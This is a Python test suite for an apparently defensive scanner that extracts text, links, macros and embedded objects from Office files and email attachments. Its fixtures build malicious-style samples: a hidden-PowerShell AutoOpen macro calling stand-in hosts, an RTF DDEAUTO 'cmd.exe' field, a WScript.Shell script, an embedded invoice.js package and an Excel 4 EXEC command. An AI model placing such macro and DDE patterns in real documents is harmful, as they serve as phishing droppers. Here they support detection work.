#!/usr/bin/env python3
"""What gillnet-reader finds in documents of office programs, and what gillnet itself reads of them.

The documents are made by LibreOffice from sources with known words and links, and byte by byte where
LibreOffice makes no such file.  Each test runs the readers as a program.
"""
import email.message
import io
import json
import os
import pathlib
import struct
import subprocess
import tempfile
import unittest
import urllib.parse
import zipfile

import compound
import encrypted
import sources

RECORDS, GILLNET, TEXTS, MUTATE = (os.environ[name] for name in ("READER_RECORDS", "GILLNET", "OFFICE_TEXTS", "OFFICE_MUTATE"))
FACTS = {1: "encrypted", 2: "opened", 3: "damaged", 4: "unknown", 5: "macro", 6: "runs", 7: "form", 8: "entries", 9: "bytes",
         10: "ratio"}
WORDS_LEAST, LINKS_LEAST = 0.95, 0.99
MUTATIONS = 2400
FOLDER = tempfile.TemporaryDirectory(prefix="gillnet-office-")
WHERE = pathlib.Path(FOLDER.name)


class Found:
    """The records of one file."""

    def __init__(self, data, *options):
        path = WHERE / "file"
        path.write_bytes(data)
        out = subprocess.run([RECORDS, *options, str(path)], stdout=subprocess.PIPE, check=True, timeout=60).stdout
        self.rows = [json.loads(line) for line in out.splitlines()]
        self.text = self.joined("text")
        self.script = self.joined("script")
        self.links = [row["value"] for row in self.rows if row["kind"] == "link"]
        self.facts = {FACTS[row["detail"]] for row in self.rows if row["kind"] == "fact"}
        self.names = [row["value"] for row in self.rows if row["kind"] == "name"]
        self.files = []  # name, media type, bytes, whole
        for row in self.rows:
            if row["kind"] == "begin":  # a NUL parts name and type
                value = bytes.fromhex(row["hex"]) if "hex" in row else row["value"].encode()
                self.files.append([*value.split(b"\0"), b"", False])
            elif row["kind"] == "data":
                self.files[-1][2] += bytes.fromhex(row["hex"]) if "hex" in row else row["value"].encode()
            elif row["kind"] == "file_end":
                self.files[-1][3] = row["detail"] == 1

    def joined(self, kind):
        return "".join(row.get("value", "") for row in self.rows if row["kind"] == kind)

    def places(self, kind):
        return {row["place"] for row in self.rows if row["kind"] == kind}


def message_with(data, name, text="see the file"):
    m = email.message.EmailMessage()
    m["From"], m["To"], m["Subject"] = "a@sender.example", "b@taker.example", "a file"
    m.set_content(text)
    m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    path = WHERE / "message.eml"
    path.write_bytes(bytes(m))
    return path


class Made(unittest.TestCase):
    """Documents that LibreOffice made."""

    KINDS = {"letter": ("fodt", sources.letter, ["doc", "rtf", "docx", "odt"]),
             "workbook": ("fods", sources.workbook, ["xls", "xlsx", "ods"]),
             "slides": ("fodp", sources.slides, ["ppt", "pptx", "odp"])}

    @classmethod
    def setUpClass(cls):
        cls.known = {}
        for kind, (suffix, make, formats) in cls.KINDS.items():
            paths = []
            for seed in (1, 2):
                text, cls.known[f"{kind}{seed}"] = make(seed)
                paths.append(WHERE / f"{kind}{seed}.{suffix}")
                paths[-1].write_text(text, encoding="utf-8")
            for wanted in formats:
                cls.convert(wanted, paths)

    @staticmethod
    def convert(wanted, paths):
        subprocess.run(["soffice", f"-env:UserInstallation=file://{WHERE}/profile", "--headless", "--convert-to", wanted,
                        "--outdir", str(WHERE), *map(str, paths)], check=True, timeout=120, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)

    def judge(self, path, text, links):
        """Programs write an address with or without its escapes: both are the same."""
        known = self.known[path.stem]
        links = {urllib.parse.unquote(link) for link in links}
        shown = urllib.parse.unquote(text)
        words = [word for word in known.words if word not in text]
        lost = [link for link in known.links if urllib.parse.unquote(link) not in links
                and urllib.parse.unquote(link) not in shown]
        self.assertLessEqual(len(words), (1 - WORDS_LEAST) * len(known.words), f"{path.name}: {words[:9]}")
        self.assertLessEqual(len(lost), (1 - LINKS_LEAST) * len(known.links), f"{path.name}: {lost[:9]}")

    def made(self, suffix):
        paths = sorted(path for path in WHERE.glob(f"*.{suffix}") if path.stem in self.known)
        self.assertEqual(len(paths), 2)
        return paths

    def check_reader(self, suffix):
        for path in self.made(suffix):
            found = Found(path.read_bytes())
            self.judge(path, found.text, found.links)
            known = {urllib.parse.unquote(link) for link in self.known[path.stem].links}
            self.assertEqual([], [link for link in found.links if urllib.parse.unquote(link) not in known])
            self.assertEqual(set(), found.facts)

    def test_doc__words_and_links(self):
        self.check_reader("doc")

    def test_xls__words_and_links(self):
        self.check_reader("xls")

    def test_ppt__words_and_links(self):
        self.check_reader("ppt")

    def test_rtf__words_and_links(self):
        self.check_reader("rtf")

    def check_extraction(self, suffix):
        for path in self.made(suffix):
            mail = message_with(path.read_bytes(), path.name)
            text = subprocess.run([TEXTS, str(mail)], stdout=subprocess.PIPE, check=True, timeout=60).stdout.decode()
            out = subprocess.run([GILLNET, "--json", "extract", str(mail)], stdout=subprocess.PIPE, check=True,
                                 timeout=60).stdout.decode()
            known = self.known[path.stem]
            # a feature has an address in normal form, without what stands behind "?"
            found = [link for link in known.links if link.split("?")[0].removeprefix("http://") in out]
            self.judge(path, text, found)

    def test_open_xml__words_and_links(self):
        for suffix in ("docx", "xlsx", "pptx"):
            with self.subTest(suffix):
                self.check_extraction(suffix)

    def test_open_document__words_and_links(self):
        for suffix in ("odt", "ods", "odp"):
            with self.subTest(suffix):
                self.check_extraction(suffix)

    def test_doc__places_are_named(self):
        found = Found((WHERE / "letter1.doc").read_bytes())
        self.assertLessEqual({"", "footnotes", "endnotes", "comments", "headers and footers", "text boxes"},
                             found.places("text"))

    def test_xls__hidden_sheet_is_no_hidden_text_and_a_formula_is_placed(self):
        found = Found((WHERE / "workbook1.xls").read_bytes())
        self.assertEqual({"sheet1n2": 0}, {row["value"]: row["detail"] for row in found.rows if row.get("value") == "sheet1n2"})
        self.assertIn("sheet sheet1n1", found.places("link"))

    def test_ppt__slides_are_numbered(self):
        found = Found((WHERE / "slides1.ppt").read_bytes())
        self.assertLessEqual({"slide 1", "slide 8", "notes"}, found.places("text"))

    def test_encrypted_workbook__opens_as_office_opens_it(self):
        """LibreOffice, too, tries the password that nobody is asked for: it proves the files."""
        plain = (WHERE / "workbook1.xlsx").read_bytes()
        made = {"agile": encrypted.agile(plain, "VelvetSweatshop", count=100000),
                "agile-sha1": encrypted.agile(plain, "VelvetSweatshop", "sha1", 128),
                "standard": encrypted.standard(plain, "VelvetSweatshop")}
        for name, data in made.items():
            (WHERE / f"{name}.xlsx").write_bytes(data)
        self.convert("csv", [WHERE / f"{name}.xlsx" for name in made])
        for name, data in made.items():
            with self.subTest(name):
                self.assertIn(b"cellw1w3x0", (WHERE / f"{name}.csv").read_bytes())
                found = Found(data)
                self.assertEqual(([[b"", b"", plain, True]], set()), (found.files, found.facts))

    def test_cut_document__is_no_end(self):
        whole = (WHERE / "letter1.doc").read_bytes()
        for n in range(0, len(whole), len(whole) // 20):
            Found(whole[:n])
        found = Found(whole[:-100])
        self.assertIn("shownl1n", found.text + "".join(found.links))

    def test_mutated__no_end_and_no_fault_of_ours(self):
        samples = [WHERE / f"{name}" for name in ("letter1.doc", "workbook1.xls", "letter1.rtf")] + Bytes.samples()
        each = -(-MUTATIONS // len(samples))
        for path in samples:
            with self.subTest(path.name):
                done = subprocess.run([MUTATE, str(path), str(each)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
                self.assertNotIn(b"core/reader", done.stderr, done.stderr[-3000:].decode(errors="replace"))
                self.assertEqual(done.returncode, 0, done.stderr[-3000:].decode(errors="replace"))


class Bytes(unittest.TestCase):
    """Files that are written here."""

    SOURCE = ('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
              + "".join(f'  Shell "powershell -w hidden http://macro{i}.example/x"\r\n' for i in range(300)) + "End Sub\r\n")

    @staticmethod
    def outlook():
        inner = compound.message({(0x0037, 0x1f): compound.wide("an inner subject"),
                                  (0x1000, 0x1f): compound.wide("inner http://inner.example/a")}, head=24)
        return compound.cfb(compound.message(
            {(0x0037, 0x1f): compound.wide("the Überweisung"), (0x1000, 0x1e): "счёт http://body.example/a".encode("cp1251"),
             (0x1013, 0x102): b"<html><a href='http://html.example/a'>x</a>",
             (0x1009, 0x102): compound.rtf_packed(b"{\\rtf1\\ansi http://rtf.example/a}"),
             (0x8005, 0x1f): compound.wide("\\\\evil.example\\share\\a.wav")}, codepage=1251,
            attachments=[{(0x3707, 0x1f): compound.wide("счёт.pdf"), (0x370e, 0x1f): compound.wide("application/pdf"),
                          (0x3701, 0x102): b"%PDF-1.4 " + b"x" * 5000},
                         {(0x3001, 0x1f): compound.wide("a message"), (0x3701, 0x0d): inner},
                         {(0x3707, 0x1e): b"a.txt", (0x370d, 0x1f): compound.wide("http://path.example/a.txt")}]))

    @staticmethod
    def section():
        return compound.section(["Просмотр документа", "\ufddfHYPERLINK \"http://one.example/a\"Click to view", "invoice.hta"],
                                [b"ascii text http://narrow.example/b here"],
                                [b"<script>new ActiveXObject('WScript.Shell')</script>", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9])

    @classmethod
    def macros(cls):
        return compound.cfb({"Macros": compound.project({"ThisDocument": cls.SOURCE, "Модуль": "Sub Счёт()\r\nEnd Sub\r\n"},
                                                        1251, "cp1251"), "Data": b"x" * 5000})

    @staticmethod
    def package():
        data = compound.native(b"invoice.js", b"WScript.Echo(1)")[4:]
        head = struct.pack("<II", 0x501, 2) + struct.pack("<I", 8) + b"Package\0" + bytes(8)
        return head + struct.pack("<I", len(data)) + data

    @classmethod
    def rich_text(cls):
        return (b"{\\rtf1\\ansi\\ansicpg1251{\\*\\template http://template.example/a.dot}{\\fonttbl{\\f0\\fcharset204 Arial;}"
                b"{\\f1\\fcharset128 MS Gothic;}}\\f0 \\'f1\\'f7\\'b8\\'f2 \\u-10179?\\u-8704?{\\f1 \\'94\\'ad}{\\v unseen}"
                b"{\\field{\\*\\fldinst HYPERLINK \"http://field.example/{\\b a}\"}{\\fldrslt shown}}"
                b"{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k calc\"}{\\fldrslt x}}"
                b"{\\*\\unknown left out}{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata "
                + cls.package().hex().encode()[:40] + b"\r\n{\\*\\noise 414141}" + cls.package().hex().encode()[40:]
                + b"}{\\result picture}} end\\par}")

    @classmethod
    def samples(cls):
        out = []
        for name, data in (("a.msg", cls.outlook()), ("a.one", cls.section()), ("macros.doc", cls.macros()),
                           ("objects.rtf", cls.rich_text()),
                           ("agile.docx", encrypted.agile(b"PK\3\4" + bytes(9000), "secret", count=10))):
            out.append(WHERE / name)
            out[-1].write_bytes(data)
        return out

    def test_message__texts_bodies_and_attachments(self):
        found = Found(self.outlook())
        for text in ("the Überweisung", "счёт http://body.example/a", "an inner subject", "inner http://inner.example/a"):
            self.assertIn(text, found.text)
        self.assertIn([b"", b"text/html", b"<html><a href='http://html.example/a'>x</a>", True], found.files)
        self.assertIn([b"", b"text/rtf", b"{\\rtf1\\ansi http://rtf.example/a}", True], found.files)
        self.assertIn(["счёт.pdf".encode(), b"application/pdf", b"%PDF-1.4 " + b"x" * 5000, True], found.files)
        self.assertEqual(len(found.files), 3)
        self.assertEqual(["\\\\evil.example\\share\\a.wav", "http://path.example/a.txt"], sorted(found.links))
        self.assertEqual({"a message", "a.txt"}, set(found.names))
        self.assertIn("attachment 2", found.places("text"))

    def test_section__files_texts_and_links(self):
        found = Found(self.section())
        self.assertEqual([b"<script>new ActiveXObject('WScript.Shell')</script>",
                          b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9], [file[2] for file in found.files])
        for text in ("Просмотр документа", "Click to view", "ascii text http://narrow.example/b here"):
            self.assertIn(text, found.text)
        self.assertIn("http://one.example/a", found.links)
        self.assertEqual(["invoice.hta"], found.names)
        self.assertEqual({"embedded file 1", "embedded file 2"}, found.places("begin"))

    def test_section__file_longer_than_the_section_is_not_whole(self):
        found = Found(self.section()[:-200])
        self.assertEqual([True, False], [file[3] for file in found.files])

    def test_macros__source_is_whole(self):
        found = Found(self.macros())
        self.assertIn("macro", found.facts)
        self.assertIn(self.SOURCE, found.script)
        self.assertIn("Sub Счёт()", found.script)
        self.assertEqual({"macro ThisDocument", "macro Модуль"}, found.places("script"))

    def test_rtf__text_fields_and_objects(self):
        found = Found(self.rich_text())
        for text in ("счёт", "\U0001f600", "発", "shown", "end"):
            self.assertIn(text, found.text)
        self.assertNotIn("left out", found.text)
        self.assertEqual(["unseen"], [row["value"] for row in found.rows if row["kind"] == "text" and row["detail"]])
        self.assertEqual(["http://template.example/a.dot", "http://field.example/a"], found.links)
        self.assertEqual([[b"invoice.js", b"", b"WScript.Echo(1)", True]], found.files)
        self.assertIn("cmd.exe", found.script)
        self.assertEqual({"runs"}, found.facts)

    def test_rtf__linked_object(self):
        data = struct.pack("<II", 0x501, 1) + struct.pack("<I", 5) + b"Link\0"
        data += struct.pack("<I", 24) + b"http://link.example/a.x\0" + bytes(4)
        found = Found(b"{\\rtf1{\\object\\objautlink{\\*\\objdata " + data.hex().encode() + b"}}}")
        self.assertEqual((["http://link.example/a.x"], {"runs"}), (found.links, found.facts))

    def test_native_object__is_a_file_with_its_name(self):
        tree = {"ObjectPool": {"_1234": {"\1Ole10Native": compound.native("счёт.exe".encode("cp1252", "replace"), b"MZ" + bytes(99))}}}
        found = Found(compound.cfb(tree))
        self.assertEqual([[b"????.exe", b"", b"MZ" + bytes(99), True]], found.files)
        self.assertEqual({"object 1"}, found.places("begin"))

    def test_linked_object__address_of_its_moniker(self):
        found = Found(compound.cfb({"\1Ole": b"\1\0\0\2" + bytes(16) + compound.moniker("http://linked.example/x.hta")}))
        self.assertIn("http://linked.example/x.hta", found.links)

    def test_installer__runs(self):
        uid = struct.pack("<IHH", 0xc1084, 0, 0) + b"\xc0\0\0\0\0\0\0\x46"
        found = Found(compound.cfb({"cabinet": b"MSCF\0\0\0\0" + bytes(100)}, uid))
        self.assertEqual(({"runs"}, b"MSCF\0\0\0\0" + bytes(100)), (found.facts, found.files[0][2]))

    def test_template__in_the_table_of_a_document(self):
        found = Found(compound.cfb({"1Table": bytes(20) + compound.wide("http://template.example/a.dotm") + bytes(9)}))
        self.assertEqual(["http://template.example/a.dotm"], found.links)

    def xls(self, *records, macros=False):
        def row(kind, data):
            return struct.pack("<HH", kind, len(data)) + data
        name = struct.pack("<IBBBB", 0, 2, 1 if macros else 0, 3, 0) + b"Cmd"
        body = row(0x809, struct.pack("<HHII", 0x600, 5, 0, 0)) + row(0x85, name)
        body += b"".join(row(kind, data) for kind, data in records) + row(0x0a, b"")
        body += row(0x809, struct.pack("<HHII", 0x600, 0x40 if macros else 0x10, 0, 0))
        return body, row

    def formula(self, tokens):
        return 6, bytes(20) + struct.pack("<H", len(tokens)) + tokens

    def test_macro_sheet__commands(self):
        body, row = self.xls((0x18, struct.pack("<HBBHHHBBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0) + b"\1"), macros=True)
        text = b"\x17\x05\0cmd /" + b"\x1e\x63\0\x41\x6f\0\x08" + b"\x41\x6e\0"  # "cmd /" & CHAR(99), EXEC()
        found = Found(compound.cfb({"Workbook": (body + row(*self.formula(text)) + row(0x0a, b"")).ljust(4096, b"\0")}))
        self.assertEqual(({"macro", "runs"}, "cmd /c\n"), (found.facts, found.script))
        self.assertIn("Cmd", [row["value"] for row in found.rows if row["kind"] == "text" and row["detail"]])

    def test_string_over_two_records(self):
        body, row = self.xls((0xfc, struct.pack("<IIHB", 1, 1, 10, 0) + b"first"),
                             (0x3c, b"\1" + compound.wide("второ")))
        found = Found(compound.cfb({"Workbook": body.ljust(4096, b"\0")}))
        self.assertIn("firstвторо", found.text)

    def test_workbook_with_a_password__is_encrypted(self):
        body, _ = self.xls((0x2f, bytes(6)))
        self.assertEqual({"encrypted"}, Found(compound.cfb({"Workbook": body.ljust(4096, b"\0")})).facts)

    def test_password_of_the_message__opens(self):
        plain = b"PK\3\4" + bytes(range(256)) * 40
        for data in (encrypted.agile(plain, "пароль\U0001f600"), encrypted.agile(plain, "пароль\U0001f600", "sha256", 128)):
            found = Found(data, "--password", "wrong", "--password", "пароль\U0001f600")
            self.assertEqual(([[b"", b"", plain, True]], {"opened"}), (found.files, found.facts))
            self.assertEqual(({"encrypted"}, []), (Found(data, "--password", "wrong").facts, Found(data).files))
        found = Found(encrypted.standard(plain, "secret"), "--password", "secret")
        self.assertEqual(([[b"", b"", plain, True]], {"opened"}), (found.files, found.facts))

    def test_password_that_takes_too_long__is_not_tried(self):
        data = encrypted.agile(b"PK\3\4", "VelvetSweatshop", count=1000001)
        self.assertEqual({"encrypted"}, Found(data).facts)

    def test_binary_workbook__links_and_macro(self):
        """gillnet reads it itself: records around texts in UTF-16."""
        def text(s):
            return b"\x13" + bytes([5 + 2 * len(s)]) + b"\0" + struct.pack("<I", len(s)) + compound.wide(s)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("xl/sharedStrings.bin", b"\x9f\x01\x08" + bytes(8) + text("pay at http://string.example/a now") + text("x"))
            z.writestr("xl/worksheets/sheet1.bin", b"\x08\x50" + bytes(10) + b"\x17\x18\0" + compound.wide("http://formula.example/b"))
            z.writestr("xl/worksheets/_rels/sheet1.bin.rels", '<Relationships><Relationship Id="r1" '
                       'Target="http://relation.example/c" TargetMode="External"/></Relationships>')
            z.writestr("xl/macrosheets/sheet1.bin", b"\x17\x18\0" + compound.wide("cmd http://macro.example/d") + b"\0\0")
        out = subprocess.run([GILLNET, "extract", str(message_with(out.getvalue(), "a.xlsb"))], stdout=subprocess.PIPE, check=True,
                             timeout=60).stdout.decode()
        for wanted in ("url string.example/a", "url formula.example/b", "url relation.example/c", "url macro.example/d",
                       "trait attachment_macro"):
            self.assertIn(wanted, out)

    def test_in_the_sandbox__the_same_is_found(self):
        """gillnet starts gillnet-reader for each file; the password stands in the message."""
        plain = io.BytesIO()
        with zipfile.ZipFile(plain, "w") as z:
            z.writestr("inner.html", "<a href='http://locked.example/a'>x</a>" * 9)
        locked = encrypted.agile(plain.getvalue(), "secret7", count=1000)
        for name, data, wanted in (("a.msg", self.outlook(), "url inner.example/a  (2, attachment 2 of a.msg"),
                                   ("a.rtf", self.rich_text(), "archive_entry invoice.js  (2, object 1 of a.rtf"),
                                   ("a.one", self.section(), "url one.example/a  (2, a.one"),
                                   ("a.docx", locked, "url locked.example/a  (2, inner.html in a.docx")):
            with self.subTest(name):
                mail = message_with(data, name, "Password: secret7")
                out = subprocess.run([GILLNET, "extract", str(mail)], stdout=subprocess.PIPE, check=True, timeout=60).stdout.decode()
                self.assertIn(wanted, out)

    def test_streams_that_share_their_bytes__are_bounded(self):
        data = bytearray(compound.cfb({f"s{i}": b"\1" * 65536 for i in range(64)}))
        at = data.index(compound.wide("s0") + b"\0\0") + 116
        for i in range(64):  # each entry claims the first stream
            entry = data.index(compound.wide(f"s{i}") + b"\0\0") + 116
            data[entry:entry + 4] = data[at:at + 4]
        self.assertLessEqual(Found(bytes(data)).facts, {"bytes", "damaged"})


if __name__ == "__main__":
    unittest.main()
